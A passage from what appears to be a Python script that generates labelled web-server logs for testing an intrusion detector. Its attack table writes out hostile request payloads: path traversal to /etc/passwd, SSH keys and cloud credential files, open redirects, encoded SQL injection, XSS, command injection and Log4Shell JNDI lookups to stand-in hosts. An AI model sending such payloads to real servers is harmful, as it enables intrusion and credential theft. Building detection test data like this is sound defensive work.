        ("GET /p?x=%0d%0aRefresh:%200;url=https://evil.example HTTP/1.1", 200, CHROME, "OPEN_REDIRECT"),
        ("GET /p?x=%0aX-Forwarded-Host:%20evil.example HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=1%0d%0a HTTP/1.1", 200, CHROME, ""),
    ],
    "PATH_TRAVERSAL": [
        ("GET /download?file=../../../../etc/passwd HTTP/1.1", 200, CHROME, ""),
        ("GET /static/..%2f..%2f..%2fetc%2fshadow HTTP/1.1", 404, CHROME, ""),
        ("GET /static/%2e%2e/%2e%2e/app/config.py HTTP/1.1", 404, CHROME, ""),
        ("GET /.env HTTP/1.1", 404, CURL, ""),
        ("GET /.env.production HTTP/1.1", 404, CURL, ""),
        ("GET /api/.env HTTP/1.1", 404, CURL, ""),
        ("GET /.git/config HTTP/1.1", 404, GO, ""),
        ("GET /.git/HEAD HTTP/1.1", 404, GO, ""),
        ("GET /.svn/entries HTTP/1.1", 404, GO, ""),
        ("GET /.htpasswd HTTP/1.1", 403, GO, ""),
        ("GET /.DS_Store HTTP/1.1", 404, GO, ""),
        ("GET /wp-config.php.bak HTTP/1.1", 404, GO, ""),
        ("GET /web.config HTTP/1.1", 404, GO, ""),
        ("GET /download?file=..%5c..%5cwindows%5cwin.ini HTTP/1.1", 200, CHROME, ""),
        ("GET /download?file=/proc/self/environ HTTP/1.1", 200, CHROME, ""),
        ("GET /.aws/credentials HTTP/1.1", 404, PYREQ, ""),
        ("GET /home/.ssh/id_rsa HTTP/1.1", 404, PYREQ, ""),
        ("GET /download?file=....//....//etc/passwd HTTP/1.1", 200, CHROME, ""),
        ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", 400, CHROME, "COMMAND_INJECTION"),
        ("GET /icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1", 400, CHROME, ""),
        ("GET /download?file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/issue HTTP/1.1", 200, CHROME, ""),
        ("GET /download?file=C:\\Windows\\System32\\drivers\\etc\\hosts HTTP/1.1", 200, CHROME, ""),
        ("GET /files/boot.ini HTTP/1.1", 404, CHROME, ""),
        ("GET /download?file=/etc/group HTTP/1.1", 200, CHROME, ""),
        ("GET /app/.git/logs/HEAD HTTP/1.1", 404, GO, ""),
    ],
    "OPEN_REDIRECT": [
        ("GET /login?next=https://evil.example/phish HTTP/1.1", 302, CHROME, ""),
        ("GET /logout?return_to=//evil.example HTTP/1.1", 302, CHROME, ""),
        ("GET /go?url=%2F%2Fevil.example%2Flogin HTTP/1.1", 302, CHROME, ""),
        ("GET /redirect?url=http://evil.example HTTP/1.1", 302, CHROME, ""),
        ("GET /auth/callback?redirect=https:%2F%2Fevil.example HTTP/1.1", 302, CHROME, ""),
        ("GET /account?returnUrl=//evil.example/%2e%2e HTTP/1.1", 302, CHROME, "PATH_TRAVERSAL"),
        ("GET /sso?redirect_to=https://login.evil.example/ HTTP/1.1", 302, CHROME, ""),
        ("GET /out?goto=http://198.51.100.200/ HTTP/1.1", 302, CHROME, ""),
        ("GET /login?next=/\\evil.example HTTP/1.1", 302, CHROME, ""),
        ("GET /login?next=https:/\\/evil.example HTTP/1.1", 302, CHROME, ""),
        ("GET /cart?continue=https://evil.example/checkout HTTP/1.1", 302, CHROME, ""),
        ("GET /dl?dest=//evil.example@shop.example.com HTTP/1.1", 302, CHROME, ""),
        ("GET /p?redirect_url=%68%74%74%70%73%3a%2f%2fevil.example HTTP/1.1", 302, CHROME, ""),
        ("GET /p?forward=https://evil.example HTTP/1.1", 302, CHROME, ""),
        ("GET /p?return=%5C%5Cevil.example HTTP/1.1", 302, CHROME, ""),
    ],
    "DOUBLE_ENCODING": [
        ("GET /files/%252e%252e%252fetc%252fpasswd HTTP/1.1", 404, CHROME, "PATH_TRAVERSAL"),
        ("GET /item?id=1%2527%2520or%25201%253D1-- HTTP/1.1", 500, CHROME, "SQL_INJECTION"),
        ("GET /p?x=%253Csvg%2520onload%253Dalert(1)%253E HTTP/1.1", 200, CHROME, "XSS"),
        ("GET /p?x=%2524%257Bjndi:ldap://x%257D HTTP/1.1", 200, CHROME, "LOG4SHELL"),
        ("GET /static/%255c..%255c..%255cwin.ini HTTP/1.1", 404, CHROME, "PATH_TRAVERSAL"),
        ("GET /p?x=%2500 HTTP/1.1", 200, CHROME, ""),
        ("GET /p?x=%252F%252Fevil.example HTTP/1.1", 200, CHROME, ""),
        ("GET /p?next=%252F%252Fevil.example HTTP/1.1", 302, CHROME, "OPEN_REDIRECT"),
        ("GET /%252e%252e/ HTTP/1.1", 404, CHROME, "PATH_TRAVERSAL"),
        ("GET /p?a=%2541%2542 HTTP/1.1", 200, CHROME, ""),
        ("GET /p?cmd=%253Bcat%2520%252Fetc%252Fpasswd HTTP/1.1", 200, CHROME, "COMMAND_INJECTION,PATH_TRAVERSAL"),
        ("GET /p?u=%2568ttp://x HTTP/1.1", 200, CHROME, ""),
    ],
    "SCANNER_UA": [
        ("GET / HTTP/1.1", 200, "sqlmap/1.8.11#stable (https://sqlmap.org)", ""),
        ("GET /index.html HTTP/1.1", 200, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", ""),
        ("GET / HTTP/1.1", 200, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", ""),
        ("GET / HTTP/1.1", 200, "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", ""),
        ("GET /wp-login.php HTTP/1.1", 404, "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", ""),
        ("GET /admin HTTP/1.1", 404, "gobuster/3.6", ""),
        ("GET /backup HTTP/1.1", 404, "Fuzz Faster U Fool v2.1.0-dev", ""),
        ("GET /api HTTP/1.1", 404, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) ffuf/2.1.0", ""),
        ("GET / HTTP/1.1", 200, "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", ""),
        ("GET / HTTP/1.1", 200, "Mozilla/5.0 zgrab/0.x", ""),
        ("GET / HTTP/1.1", 200, "Mozilla/5.0 (compatible; Nessus/10.7; +https://www.tenable.com)", ""),
        ("GET / HTTP/1.1", 200, "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)", ""),
        ("GET / HTTP/1.1", 200, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.114 Safari/537.36 acunetix-wvs-test-for-some-inexistent-file", ""),
        ("GET /x HTTP/1.1", 404, "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", ""),
        ("GET / HTTP/1.1", 200, "feroxbuster/2.10.4", ""),
        ("GET / HTTP/1.1", 200, "Wfuzz/3.1.0", ""),
        ("GET / HTTP/1.1", 200, "WhatWeb/0.5.5", ""),
        ("GET / HTTP/1.1", 200, "Mozilla/5.0 (compatible; Burp Collaborator)", ""),
        ("GET / HTTP/1.1", 200, "Mozilla/5.0 (X11; Linux x86_64) Hydra", ""),
        ("GET / HTTP/1.1", 200, "commix/v3.9-stable (https://commixproject.com)", ""),
    ],
}

def attack():
    rows = []  # (t, ip, line, labels)
    t0 = BASE + 4000
    pool = ["203.0.113.%d" % i for i in range(1, 255)] + ["198.51.100.%d" % i for i in range(1, 255)] + \
           ["2001:db8:bad:%x::%x" % (i, i) for i in range(1, 120)]
    n = 0
    for rule, cases in ATTACKS.items():
        for req, status, ua, extra in cases:
            ip = pool[n % len(pool)]
            t = t0 + n * 7
            n += 1
            labels = [rule] + [x for x in extra.split(",") if x]
            if "sqlmap" in ua or "Nikto" in ua or "Hydra" in ua:
                if "SCANNER_UA" not in labels:
                    labels.append("SCANNER_UA")
            referer = None
            # A few attacks carried in the referer instead.
            rows.append((t, line(ip, t, req, status, R.randint(0, 5000), referer, ua), labels))
    # Referer-borne Log4Shell.
    t = t0 + n * 7
    rows.append((t, line("203.0.113.250", t, "GET / HTTP/1.1", 200, 512, "${jndi:ldap://x.example/ref}", CHROME), ["LOG4SHELL"]))
    # A flood of ordinary requests: 130 in 40 seconds from one address.
    ts = BASE + 6000
    for k in range(1, 131):
        t = ts + (k - 1) * 40 // 130
        page = PAGES[k % len(PAGES)]
        rows.append((t, line("198.51.100.250", t, "GET %s HTTP/1.1" % page, 200, 4000 + k, None, PYREQ),
                     ["RATE_ANOMALY"] if k > 100 else []))
    # Probing for old pages: 40 requests over three minutes, 75 % not found.
    ts = BASE + 6300
    errors = 0
    for k in range(1, 41):
        t = ts + (k - 1) * 180 // 40
        status = 200 if k % 4 == 0 else 404
        errors += status >= 400
        rows.append((t, line("198.51.100.251", t, "GET /archive/2019/page-%d.html HTTP/1.1" % k, status, 300, None, FIREFOX),
                     ["HIGH_ERROR_RATE"] if k >= 10 and errors * 2 > k else []))
    # Password guessing: 30 refused logins in 50 seconds, on two login paths.
    ts = BASE + 6700
    for k in range(1, 31):
        t = ts + (k - 1) * 50 // 30
        path, status = ("/api/auth/login", 401) if k % 2 else ("/wp-login.php", 403)
        labels = []
        if k > 10:
            labels.append("BRUTE_FORCE")
        if k >= 10:
            labels.append("HIGH_ERROR_RATE")  # every one of them refused
        rows.append((t, line("2001:db8:bad:ffff::1", t, "POST %s HTTP/1.1" % path, status, 120, SITE + "/login", CHROME), labels))
    # A scanner that floods, mostly 404: everything at once.
    ts = BASE + 7100
    errors = 0
    for k in range(1, 121):
        t = ts + (k - 1) * 45 // 120
        status = 200 if k % 5 == 0 else 404
        errors += status >= 400
        labels = ["SCANNER_UA"]
        if k > 100:
            labels.append("RATE_ANOMALY")
        if k >= 10 and errors * 2 > k:
            labels.append("HIGH_ERROR_RATE")
        rows.append((t, line("203.0.113.251", t, "GET /admin/page-%d.php HTTP/1.1" % k, status, 200, None, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)" % k), labels))
    rows.sort(key=lambda r: r[0])
    return rows


def main():
    b = benign()
    with open(os.path.join(HERE, "benign.log"), "w") as f:
        f.write("\n".join(b) + "\n")
    a = attack()
    with open(os.path.join(HERE, "attack.log"), "w") as f:
        f.write("\n".join(r[1] for r in a) + "\n")
    with open(os.path.join(HERE, "attack.labels"), "w") as f:
        f.write("\n".join(",".join(sorted(r[2])) or "-" for r in a) + "\n")
    labelled = sum(1 for r in a if r[2])
    print("benign %d lines, attack %d lines (%d labelled)" % (len(b), len(a), labelled))


main()
